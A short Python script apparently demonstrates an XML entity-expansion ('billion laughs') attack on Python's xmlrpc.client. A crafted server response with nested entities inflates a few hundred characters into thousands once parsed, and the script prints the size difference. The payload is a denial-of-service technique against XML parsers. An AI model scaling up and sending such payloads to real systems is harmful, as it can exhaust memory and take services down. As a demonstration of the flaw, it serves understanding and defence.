from xmlrpc.client import loads

answer = """<!DOCTYPE r [<!ENTITY a "spam spam ">
<!ENTITY b "&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">
<!ENTITY e "&d;&d;&d;&d;&d;&d;">]><methodResponse><params><param>
<value><string>&e;</string></value></param></params></methodResponse>"""
(value,), _ = loads(answer)
print(f"{len(answer)} characters from the server became {len(value):,}")
